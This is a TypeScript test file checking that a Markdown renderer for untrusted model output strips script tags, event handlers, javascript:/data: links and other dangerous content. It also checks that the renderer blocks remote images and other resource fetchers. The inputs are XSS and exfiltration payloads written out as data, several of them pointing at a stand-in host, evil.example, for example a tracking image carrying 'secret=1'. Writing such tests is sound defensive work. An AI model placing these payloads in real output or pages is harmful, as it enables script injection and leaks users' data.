import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

const ORIGIN = 'http://localhost:8000';
const render = (md: string) => {
  const html = renderMarkdown(md, ORIGIN);
  const div = document.createElement('div');
  div.innerHTML = html;
  return { html, div };
};

describe('renderMarkdown (hostile model output)', () => {
  it('renders ordinary Markdown', () => {
    const { div } = render(
      '# Title\n\nSome **bold** and `code`.\n\n```js\nconst a = 1 < 2;\n```\n\n- [x] done',
    );
    expect(div.querySelector('h1')?.textContent).toBe('Title');
    expect(div.querySelector('strong')?.textContent).toBe('bold');
    expect(div.querySelector('pre code')?.textContent).toBe('const a = 1 < 2;\n');
  });

  it('drops script tags', () => {
    const { html, div } = render(
      'hi <script>alert(1)</script>\n\n<script src="http://evil.example/x.js"></script>',
    );
    expect(div.querySelector('script')).toBeNull();
    expect(html).not.toMatch(/<script/i);
  });

  it('strips event handler attributes', () => {
    const { div } = render(
      '<img src="/ok.png" onerror="alert(1)"> <a href="#" onclick="alert(1)">x</a> <div onmouseover="alert(1)">y</div>',
    );
    div.querySelectorAll('*').forEach((el) => {
      for (const attr of Array.from(el.attributes)) expect(attr.name.startsWith('on')).toBe(false);
    });
  });

  it('neutralizes javascript: and data: links, in Markdown and HTML form', () => {
    const { div } = render(
      '[click](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">x</a> <a href=" javascript:alert(3)">y</a> [d](data:text/html,<script>alert(4)</script>) [v](vbscript:msgbox)',
    );
    div.querySelectorAll('a').forEach((a) => {
      const href = a.getAttribute('href');
      if (href !== null) expect(href).toMatch(/^(https?:|mailto:|#|\/)/i);
    });
  });

  it('keeps https links but opens them safely', () => {
    const { div } = render('[docs](https://example.com/docs)');
    const a = div.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/docs');
    expect(a.getAttribute('rel')).toContain('noopener');
    expect(a.getAttribute('rel')).toContain('noreferrer');
  });

  it('never keeps an image that would be fetched from another host', () => {
    const { div } = render(
      '![leak](https://evil.example/track.png?secret=1) <img src="//evil.example/a.png"> <img src="http://localhost:9999/x.png"> <img srcset="https://evil.example/b.png 2x" src="/ok.png">',
    );
    const srcs = Array.from(div.querySelectorAll('img')).map((i) => i.getAttribute('src'));
    expect(srcs).toEqual(['/ok.png']);
    expect(div.querySelector('img')!.hasAttribute('srcset')).toBe(false);
    expect(div.textContent).toContain('[image blocked: leak]');
  });

  it('allows same-origin and data: images', () => {
    const { div } = render('![a](/api/img.png) ![b](data:image/png;base64,iVBORw0KGgo=)');
    expect(div.querySelectorAll('img')).toHaveLength(2);
  });

  it('removes styles, iframes, forms, svg and other fetchers', () => {
    const { html } = render(
      '<style>body{background:url(https://evil.example/x)}</style><div style="background:url(https://evil.example/y)">s</div><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=a></form><svg><image href="https://evil.example/z"/></svg><object data="https://evil.example"></object><link rel=stylesheet href="https://evil.example/c.css"><video poster="https://evil.example/p.png"></video>',
    );
    expect(html).not.toContain('evil.example');
  });

  it('escapes HTML inside code blocks instead of running it', () => {
    const { div } = render('```html\n<img src=x onerror=alert(1)>\n```');
    expect(div.querySelector('img')).toBeNull();
    expect(div.querySelector('code')?.textContent).toContain('<img src=x onerror=alert(1)>');
  });
});
